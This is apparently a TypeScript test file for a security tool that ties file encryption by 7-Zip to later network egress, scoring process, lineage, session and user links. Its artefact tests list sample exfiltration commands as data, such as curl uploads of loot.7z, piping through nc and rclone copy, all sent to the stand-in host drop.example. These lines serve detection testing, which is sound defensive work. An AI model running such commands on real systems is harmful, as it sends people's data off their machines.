import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOUR, MINUTE, SECOND, T0 } from '../../test/host-events.ts';
import { egress, observed, process } from '../../test/host-view.ts';
import { DEFAULT_PARAMETERS } from '../findings/parameters.ts';
import type { Process } from '../hosts/process.ts';
import type { Egress, ObservedOperation } from './host-view.ts';
import { LINK_KINDS } from './link-kind.ts';
import { findLink } from './links.ts';
import type { Link } from './links.ts';

const WINDOWS = DEFAULT_PARAMETERS.correlationWindow;
const ENCRYPTED = T0 + MINUTE;

const link = (sending: Egress, operation: ObservedOperation): Link | undefined =>
  findLink(sending, operation, WINDOWS);
const kind = (sending: Egress, operation: ObservedOperation): string | undefined =>
  link(sending, operation)?.kind;

const cmd = (more: Partial<Process> = {}): Process =>
  process({ image: 'C:\\Windows\\System32\\cmd.exe', ...more });
const sevenZip = (more: Partial<Process> = {}): Process => process({ image: 'C:\\Tools\\7z.exe', ...more });
const curl = (more: Partial<Process> = {}): Process =>
  process({ image: 'C:\\Windows\\System32\\curl.exe', ...more });

/** A sender whose connection comes `after` the encryption. */
const later = (by: Process, after: number): Egress => egress(by, { first: ENCRYPTED + after });

describe('the same process', () => {
  it('is a tie in full strength, today, tomorrow and when the connection came first', () => {
    const agent = process();
    for (const after of [0, 10 * SECOND, 24 * HOUR, 400 * 24 * HOUR, -HOUR]) {
      expect(link(later(agent, after), observed(agent))).toMatchObject({
        kind: 'same-process',
        weight: 1,
        delta: after,
      });
    }
  });
});

describe('a pipeline', () => {
  const shell = cmd();
  const encryptor = sevenZip({ parent: shell, end: ENCRYPTED + 5 * SECOND });

  it('is two programs of one shell whose lives overlap', () => {
    expect(
      link(egress(curl({ parent: shell, end: ENCRYPTED + 20 * SECOND })), observed(encryptor)),
    ).toMatchObject({
      kind: 'pipeline',
      weight: 0.9,
    });
  });

  it('that has faded is still a lineage', () => {
    const sender = curl({ parent: shell, end: ENCRYPTED + HOUR });
    for (const minutes of [3, 5, 10]) {
      const tie = link(later(sender, minutes * MINUTE), observed(encryptor));
      expect(tie).toMatchObject({ kind: 'lineage', weight: 0.9 });
    }
  });

  it('needs both lives: one after the other is a lineage', () => {
    const sender = curl({ parent: shell, start: ENCRYPTED + 6 * SECOND, firstSeen: ENCRYPTED + 6 * SECOND });
    expect(kind(egress(sender), observed(encryptor))).toBe('lineage');
    expect(kind(egress(curl({ parent: shell, start: undefined })), observed(encryptor))).toBe('lineage');
  });
});

describe('a lineage', () => {
  it('goes from the sender up to the encryptor and down to it', () => {
    const parent = process();
    const child = curl({ parent });
    const grandchild = curl({ parent: child });
    expect(kind(egress(grandchild), observed(parent))).toBe('lineage');
    expect(kind(egress(parent), observed(grandchild))).toBe('lineage');
  });

  it('goes over a script they both come from', () => {
    const root = cmd();
    const sender = curl({ parent: cmd({ parent: root }) });
    const encryptor = sevenZip({ parent: cmd({ parent: root }) });
    expect(kind(egress(sender), observed(encryptor))).toBe('lineage');
  });

  it.each([
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\System32\\services.exe',
    'C:\\Windows\\System32\\svchost.exe',
  ])('does not go over %s, which starts everything', (image) => {
    const root = process({ image });
    expect(kind(egress(curl({ parent: root })), observed(sevenZip({ parent: root })))).toBe('host');
    const known = { user: 'CORP\\ann' };
    const users = [curl({ parent: root, ...known }), sevenZip({ parent: root, user: 'CORP\\bob' })] as const;
    expect(kind(egress(users[0]), observed(users[1]))).toBeUndefined();
    expect(
      kind(egress(curl({ parent: cmd({ parent: root }), ...known })), observed(users[1])),
    ).toBeUndefined();
  });

  it('goes over a program that only calls itself explorer', () => {
    const root = process({ image: 'C:\\Users\\ann\\AppData\\Local\\Temp\\explorer.exe' });
    const pair = [curl({ parent: root, user: 'a' }), sevenZip({ parent: root, user: 'b' })] as const;
    expect(['pipeline', 'lineage']).toContain(kind(egress(pair[0]), observed(pair[1])));
  });

  it('ends where the walk ends, and circles tie nothing new', () => {
    const a = process({ user: 'a' });
    const b = process({ user: 'b', parent: a });
    a.parent = b;
    expect(kind(egress(a), observed(b))).toBe('lineage');
    const stranger = curl({ user: 'c' });
    expect(kind(egress(stranger), observed(a))).toBeUndefined();
  });
});

describe('an artefact', () => {
  const named = (
    commandLine: string,
    more: Parameters<typeof observed>[1],
    files: readonly string[] = [],
  ): string | undefined => {
    const encryptor = sevenZip({ user: 'CORP\\bob', files: new Set(files) });
    return kind(egress(curl({ user: 'CORP\\ann', commandLine })), observed(encryptor, more));
  };

  it.each([
    'curl -T C:\\Temp\\loot.7z https://drop.example',
    'curl -T "C:\\temp\\LOOT.7z" https://drop.example',
    'curl -F file=@C:\\Temp\\loot.7z https://drop.example',
    'curl --data-binary @loot.7z https://drop.example',
    'cmd /c type loot.7z|nc drop.example 443',
    'rclone copy .\\loot.7z remote:',
    'curl -T {C:\\Temp\\a.7z,C:\\Temp\\loot.7z} https://drop.example',
  ])('is the encrypted file in the sender’s command line: %s', (commandLine) => {
    expect(named(commandLine, { outputs: ['C:\\Temp\\loot.7z'] })).toBe('artefact');
  });

  it.each([
    'curl -T C:\\Temp\\loot.7z.txt https://drop.example',
    'curl -T C:\\Temp\\loot.7zip https://drop.example',
    'curl -T C:\\Temp\\loot.7z~ https://drop.example',
    'curl -T my-loot.7z https://drop.example',
    'curl -T big.loot.7z https://drop.example',
    'curl -T übloot.7zü https://drop.example',
    'curl https://drop.example',
  ])('is the whole word, not a part of one: %s', (commandLine) => {
    expect(named(commandLine, { outputs: ['C:\\Temp\\loot.7z'] })).toBeUndefined();
  });

  it('needs a name that means one file', () => {
    expect(named('curl -T a.gz x', { outputs: ['a.gz'] })).toBeUndefined();
    expect(named('curl -T backup x', { outputs: ['backup'] })).toBeUndefined();
    expect(named('curl -T C:\\Temp\\a.gz x', { outputs: ['C:\\Temp\\a.gz'] })).toBe('artefact');
  });

  it('may be a file the encryptor wrote, if the sender names its whole path', () => {
    expect(named('curl -T C:\\Temp\\part1.bin x', {}, ['c:\\temp\\part1.bin'])).toBe('artefact');
    expect(named('curl -T part1.bin x', {}, ['c:\\temp\\part1.bin'])).toBeUndefined();
    expect(named('curl -T C:\\Temp\\part1.bin.txt x', {}, ['c:\\temp\\part1.bin'])).toBeUndefined();
  });

  it('ties for a day', () => {
    const encryptor = sevenZip({ user: 'b' });
    const sender = curl({ user: 'a', commandLine: 'curl -T C:\\Temp\\loot.7z x' });
    const operation = observed(encryptor, { outputs: ['C:\\Temp\\loot.7z'] });
    expect(link(later(sender, 24 * HOUR), operation)?.weight).toBe(0.9);
    expect(link(later(sender, 48 * HOUR), operation)?.weight).toBeCloseTo(0.45, 9);
  });
});

describe('thin ties', () => {
  it('are the logon session, then the user, then the host when users are unknown', () => {
    const ann = { user: 'CORP\\ann', session: '0x1234' };
    expect(kind(egress(curl(ann)), observed(sevenZip(ann)))).toBe('session');
    expect(kind(egress(curl(ann)), observed(sevenZip({ user: 'corp\\ANN', session: '0x9' })))).toBe('user');
    expect(kind(egress(curl(ann)), observed(sevenZip()))).toBe('host');
    expect(kind(egress(curl(ann)), observed(sevenZip({ user: 'CORP\\bob' })))).toBeUndefined();
  });

  it.each(['0x3e7', '0x3e4', '0x3e5'])('are not the session %s, which all services share', (session) => {
    const a = curl({ session, user: 'CORP\\ann' });
    expect(kind(egress(a), observed(sevenZip({ session, user: 'CORP\\bob' })))).toBeUndefined();
  });

  it.each([
    'NT AUTHORITY\\SYSTEM',
    'NT AUTHORITY\\NETWORK SERVICE',
    'AUTORITE NT\\Système',
    'NT-AUTORITÄT\\Lokaler Dienst',
    'CORP\\WS1$',
    'SYSTEM',
    'S-1-5-18',
    's-1-5-19',
  ])('are not the user %s, who is everybody', (user) => {
    expect(kind(egress(curl({ user })), observed(sevenZip({ user })))).toBeUndefined();
  });

  it('are the users who only look like one of those', () => {
    for (const user of ['NT\\ann', 'CORP\\systemadmin', 'S-1-5-21-1-2-3-1104']) {
      expect(kind(egress(curl({ user })), observed(sevenZip({ user })))).toBe('user');
    }
  });

  it('count from the nearest connection, not from a channel’s whole length', () => {
    const ann = { user: 'CORP\\ann' };
    const times = [ENCRYPTED - 5 * HOUR, ENCRYPTED + 5 * HOUR];
    const channel = (by: Process): Egress =>
      egress(by, { first: times[0] ?? 0, last: times[1] ?? 0, times, connections: 2 });
    expect(kind(channel(curl(ann)), observed(sevenZip(ann)))).toBeUndefined();
    // Those who are of one family may use it while it is open.
    const parent = process(ann);
    expect(link(channel(parent), observed(sevenZip({ parent, ...ann })))).toMatchObject({
      kind: 'lineage',
      weight: 0.9,
    });
  });
});

describe('what one process encrypted', () => {
  it('cannot have left through another’s connections that all came before', () => {
    const shell = cmd();
    const pair = [curl({ parent: shell }), sevenZip({ parent: shell })] as const;
    expect(link(later(pair[0], -5 * SECOND), observed(pair[1]))?.kind).toBeDefined();
    expect(link(later(pair[0], -11 * SECOND), observed(pair[1]))).toBeUndefined();
    expect(link(later(pair[0], -5 * SECOND), observed(pair[1], { direction: 'unknown' }))).toBeUndefined();
  });
});

describe('a tie', () => {
  const family = (): { sender: Process; encryptor: Process } => {
    const shell = cmd();
    return { sender: curl({ parent: shell, start: undefined }), encryptor: sevenZip({ parent: shell }) };
  };

  it('fades with every further span, without a cliff, until it is too faint to speak of', () => {
    const { sender, encryptor } = family();
    const weight = (after: number): number | undefined =>
      link(later(sender, after), observed(encryptor))?.weight;
    const span = WINDOWS.lineage;
    expect([weight(0), weight(span)]).toEqual([0.9, 0.9]);
    expect(weight(span + 1)).toBeGreaterThan(0.899);
    expect(weight(2 * span)).toBeCloseTo(0.45, 9);
    expect(weight(3 * span)).toBeCloseTo(0.225, 9);
    // Users are unknown here, and that tie is shorter still.
    expect(weight(5 * span)).toBeUndefined();
  });

  it('never grows with distance, and never outweighs its kind', () => {
    const spans = fc.tuple(fc.integer({ min: 0, max: 48 * HOUR }), fc.integer({ min: 0, max: 48 * HOUR }));
    const { sender, encryptor } = family();
    fc.assert(
      fc.property(spans, ([a, b]) => {
        const [near, far] = [Math.min(a, b), Math.max(a, b)];
        const weights = [near, far].map(
          (after) => link(later(sender, after), observed(encryptor))?.weight ?? 0,
        );
        expect(weights[0]).toBeGreaterThanOrEqual(weights[1] ?? 0);
        expect(weights[0]).toBeLessThanOrEqual(0.9);
      }),
    );
  });

  it('is the strongest there is', () => {
    const shell = cmd();
    const ann = { user: 'CORP\\ann', session: '0x1234', parent: shell };
    const sender = curl({ ...ann, end: ENCRYPTED + HOUR, commandLine: 'curl -T C:\\Temp\\loot.7z x' });
    const encryptor = sevenZip({ ...ann, end: ENCRYPTED + MINUTE });
    const strength = (after: number): string | undefined =>
      link(later(sender, after), observed(encryptor, { outputs: ['C:\\Temp\\loot.7z'] }))?.kind;
    expect(strength(20 * HOUR)).toBe('artefact');
    expect(LINK_KINDS).toContain(strength(10 * SECOND));
  });

  it('says in words whom it ties', () => {
    const { sender, encryptor } = family();
    expect(link(egress(sender), observed(encryptor))?.reason).toMatch(/cmd\.exe \(pid \d+\)/);
  });
});
